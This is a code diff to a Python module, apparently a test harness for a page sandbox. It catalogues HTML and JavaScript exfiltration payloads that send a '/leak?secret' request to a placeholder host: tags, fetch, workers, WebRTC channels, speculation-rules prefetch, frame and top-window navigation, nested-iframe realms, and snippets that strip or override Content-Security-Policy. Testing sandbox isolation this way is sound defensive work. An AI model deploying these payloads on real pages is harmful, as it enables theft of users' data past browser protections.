@@ -1,8 +1,11 @@
 """Ways to get data out of a page.
 
-Each is code that has `el`, an element, and the `URL` and `HOST` of a server; each arrives there
-from a page that nothing protects.
+Each is code that has `el`, an element, and the `URL` and `HOST` of a server, which it reaches from
+a page that nothing protects.
 """
+
+import json
+from collections.abc import Mapping
 
 _TAGS = {
     "image": "<img src=URL>",
@@ -34,7 +37,6 @@ _TAGS = {
         "<p style='font-family: leak'>x</p>"
     ),
     "background attribute": "<table background=URL><tr><td>x</table>",
-    "refresh": "<meta http-equiv=refresh content='0;URL'>",
 }
 
 _LINKS = {
@@ -48,11 +50,14 @@ _LINKS = {
 }
 
 _CLICKS = {
+    "link to a new window": "<a href=URL target=_blank></a>",
+    "ping of a link": "<a href='#here' ping=URL></a>",
+}
+
+_LEAVING_CLICKS = {
     "link": "<a href=URL></a>",
     "link out of the frame": "<a href=URL target=_top></a>",
-    "link to a new window": "<a href=URL target=_blank></a>",
     "link by the frame's name": "<a href=URL target=personal-page-cabinet></a>",
-    "ping of a link": "<a href='#here' ping=URL></a>",
     "map": "<map><area href=URL></map>",
     "button of a form": "<form><button formaction=URL></button></form>",
     "form": "<form action=URL><button></button></form>",
@@ -66,6 +71,12 @@ _IN_A_WORKER = {
     "worker with a socket": "new WebSocket('ws://HOST/')",
     "worker that imports a module": "import('URL')",
 }
+
+_CONNECT = (
+    "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${HOST}` }] });"
+    "c.createDataChannel('leak');"
+    "c.createOffer().then((offer) => c.setLocalDescription(offer))"
+)
 
 _CALLS = {
     "fetch": "fetch(URL)",
@@ -94,29 +105,12 @@ _CALLS = {
     ),
     "dynamic import": "import(URL)",
     "audio worklet": "new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(URL)",
-    "location": "location.href = URL",
-    "location.assign": "location.assign(URL)",
-    "location.replace": "location.replace(URL)",
-    "Navigation": "navigation.navigate(URL)",
-    "location of the top window": "top.location.href = URL",
-    "location of the parent": "parent.location.replace(URL)",
-    "location of every frame of the page": (
-        "for (let i = 0; i < parent.length; i++) { try { parent[i].location = URL } catch {} }"
-        "try { parent.location = URL } catch {}"
+    "speculation rules": (
+        "const s = document.createElement('script'); s.type = 'speculationrules';"
+        "s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [URL] }] });"
+        "el.append(s)"
     ),
     "popup": "window.open(URL)",
-    "window in place of the top one": "window.open(URL, '_top')",
-    "window by the frame's name": "window.open(URL, 'personal-page-cabinet')",
-    "document that is written": (
-        "document.open(); document.write(`<img src=${URL}>`); document.close()"
-    ),
-    "document that is written with a policy of its own": (
-        "document.open(); document.write(`<meta http-equiv=Content-Security-Policy "
-        'content="img-src *"><img src=${URL}>`); document.close()'
-    ),
-    "the policy taken out": (
-        "document.querySelectorAll('meta').forEach((meta) => meta.remove()); fetch(URL)"
-    ),
     "html of another document": (
         "document.body.append("
         "new DOMParser().parseFromString(`<img src=${URL}>`, 'text/html').body)"
@@ -128,11 +122,7 @@ _CALLS = {
         "const f = document.createElement('iframe'); el.append(f);"
         "f.contentDocument.body.innerHTML = `<img src=${URL}>`"
     ),
-    "WebRTC": (
-        "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${HOST}` }] });"
-        "c.createDataChannel('leak');"
-        "c.createOffer().then((offer) => c.setLocalDescription(offer))"
-    ),
+    "WebRTC": _CONNECT,
     "WebRTC over TCP": (
         "const c = new RTCPeerConnection({ iceServers: [{ urls: `turn:${HOST}?transport=tcp`,"
         " username: 'a', credential: 'b' }] });"
@@ -145,6 +135,49 @@ _CALLS = {
         "{ iceServers: [{ urls: `stun:${HOST}` }] });"
         "c.createDataChannel('leak');"
         "c.createOffer().then((offer) => c.setLocalDescription(offer))"
+    ),
+}
+
+_IN_A_NESTED_DOCUMENT = {
+    "script": "f.srcdoc = `<script>${CODE}<\\/script>`",
+    "handler": "f.srcdoc = `<style onload=\"${CODE.replaceAll('\"', '&quot;')}\"></style>`",
+    "address that is a script": "f.src = `javascript:${CODE}`",
+    "script of a Blob": (
+        "f.srcdoc = `<script src=${window.URL.createObjectURL(new Blob([CODE]))}><\\/script>`"
+    ),
+    "Blob as the document": (
+        "f.src = window.URL.createObjectURL("
+        "new Blob([`<script>${CODE}<\\/script>`], { type: 'text/html' }))"
+    ),
+}
+"""A nested document has a fresh realm, with WebRTC, which no policy of the browser governs."""
+
+_LEAVING_CALLS = {
+    "location": "location.href = URL",
+    "location.assign": "location.assign(URL)",
+    "location.replace": "location.replace(URL)",
+    "Navigation": "navigation.navigate(URL)",
+    "location of the top window": "top.location.href = URL",
+    "location of the parent": "parent.location.replace(URL)",
+    "location of every frame of the page": (
+        "for (let i = 0; i < parent.length; i++) { try { parent[i].location = URL } catch {} }"
+        "try { parent.location = URL } catch {}"
+    ),
+    "window in place of the top one": "window.open(URL, '_top')",
+    "window by the frame's name": "window.open(URL, 'personal-page-cabinet')",
+    "refresh": "el.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;${URL}'>`)",
+}
+
+_BREAKING = {
+    "document that is written": (
+        "document.open(); document.write(`<img src=${URL}>`); document.close()"
+    ),
+    "document that is written with a policy of its own": (
+        "document.open(); document.write(`<meta http-equiv=Content-Security-Policy "
+        'content="img-src *"><img src=${URL}>`); document.close()'
+    ),
+    "the policy taken out": (
+        "document.querySelectorAll('meta').forEach((meta) => meta.remove()); fetch(URL)"
     ),
     # The cabinet that this breaks is put away by the page.
     "every global of the shim removed": (
@@ -186,13 +219,30 @@ def _worker(code: str) -> str:
     return f"new Worker(window.URL.createObjectURL(new Blob([`{source}`])))"
 
 
-ATTEMPTS = {
+def _nested(code: str) -> str:
+    source = f"`const HOST = '${{HOST}}';` + {json.dumps(_CONNECT)}"
+    return f"const CODE = {source}, f = document.createElement('iframe'); {code}; el.append(f)"
+
+
+TOGETHER = {
     **_CALLS,
     **{name: _append(markup) for name, markup in _TAGS.items()},
     **{f"link {name}": _link(attributes) for name, attributes in _LINKS.items()},
     **{f"click on a {name}": _click(markup) for name, markup in _CLICKS.items()},
     **{name: _worker(code) for name, code in _IN_A_WORKER.items()},
+    **{f"WebRTC of a nested {name}": _nested(code) for name, code in _IN_A_NESTED_DOCUMENT.items()},
 }
+"""Those that leave the document as it is for the others."""
+
+LEAVING = {
+    **_LEAVING_CALLS,
+    **{f"click on a {name}": _click(markup) for name, markup in _LEAVING_CLICKS.items()},
+}
+"""Those that take another document in the place of this one."""
+
+ALONE = {**LEAVING, **_BREAKING}
+
+ATTEMPTS = {**TOGETHER, **ALONE}
 
 
 NAVIGATIONS = {
@@ -203,12 +253,20 @@ NAVIGATIONS = {
     "frame",
     "refresh of a nested document",
     "refresh",
+    "window by the frame's name",
     "click on a link",
+    "click on a link by the frame's name",
     "click on a map",
 }
 """At these Chromium opens a connection, on which nothing is sent, before it asks the policy."""
 
 
-def against(host: str, code: str) -> str:
-    """Return `code` with the server at `host` as what it tries to reach."""
-    return f"const HOST = '{host}', URL = `http://${{HOST}}/leak?secret`;\n{code}"
+def attempting(hosts: Mapping[str, str]) -> str:
+    """Return code that makes each of the attempts named by `hosts`, at its own host."""
+    attempts = (
+        f"try {{ (function (HOST, URL, el) {{ {ATTEMPTS[name]} }})"
+        f"('{host}', 'http://{host}/leak?secret', el.appendChild(document.createElement('div'))) }}"
+        " catch (error) { console.debug(String(error)) }"
+        for name, host in hosts.items()
+    )
+    return "\n".join(attempts)
